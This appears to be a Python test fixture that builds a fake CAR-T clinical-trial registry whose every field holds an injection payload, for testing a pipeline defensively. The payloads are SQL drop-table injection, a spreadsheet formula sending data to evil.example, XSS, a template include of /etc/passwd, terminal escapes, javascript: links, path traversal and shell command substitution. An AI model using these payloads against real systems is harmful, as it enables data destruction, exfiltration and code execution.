"""A registry that writes what an attacker would: every text of a record tries to act somewhere."""

import json
import tempfile
from pathlib import Path
from typing import Any

# a file that no program but an obedient one would make
OWNED = Path(tempfile.gettempdir()) / "owned"

ACTS = {
    "sql": "'); drop table core.trials; --",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"CAR-T")',
    "script": "</script><img src=x onerror=alert(1)><script>alert(2)</script>",
    "template": "{{ 7 * 191 }}{% include '/etc/passwd' %}",
    "terminal": "\x1b]0;owned\x07\x1b[2J",
    "markdown": "[click](javascript:alert(1)) | x | ![a](http://evil.example/a.png)",
    "path": f"../../../..{OWNED}",
    "shell": f"$(touch {OWNED}) `touch {OWNED}`; touch {OWNED}",
}
EMAIL, PHONE, PERSON = "jane.doe@hospital.example", "+1 555 010 9999", "Jane Q. Contact"


def hostile_study(number: int, text: str) -> dict[str, Any]:
    """A CAR-T trial whose every text is this one, with a person to contact."""
    contact = {"name": PERSON, "role": "CONTACT", "phone": PHONE, "email": EMAIL}
    site = {"facility": text, "city": text, "country": text, "contacts": [contact]}
    return {
        "protocolSection": {
            "identificationModule": {
                "nctId": f"NCT{number:08d}",
                "orgStudyIdInfo": {"id": text},
                "briefTitle": f"CD19 CAR-T {text}",
                "officialTitle": f"{text} CAR-T",
            },
            "statusModule": {"overallStatus": text, "startDateStruct": {"date": text}, "whyStopped": text},
            "sponsorCollaboratorsModule": {"leadSponsor": {"name": text, "class": text}},
            "descriptionModule": {"briefSummary": f"Anti-CD19 CAR-T cells {text}"},
            "conditionsModule": {"conditions": [text, "Lymphoma"], "keywords": [text]},
            "designModule": {"phases": [text], "studyType": text},
            "armsInterventionsModule": {"interventions": [{"type": text, "name": f"CAR-T {text}"}]},
            "contactsLocationsModule": {"centralContacts": [contact], "locations": [site]},
            "referencesModule": {"references": [{"pmid": text, "type": text, "citation": text}]},
        }
    }


def hostile_registry(path: Path) -> Path:
    """A trial for each act, and for each a record that can't be read and says so."""
    lines = [json.dumps(hostile_study(81_000_000 + row, text)) for row, text in enumerate(ACTS.values())]
    lines += [
        json.dumps({"protocolSection": {"identificationModule": {"nctId": text}, text: text}}) for text in ACTS.values()
    ]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path
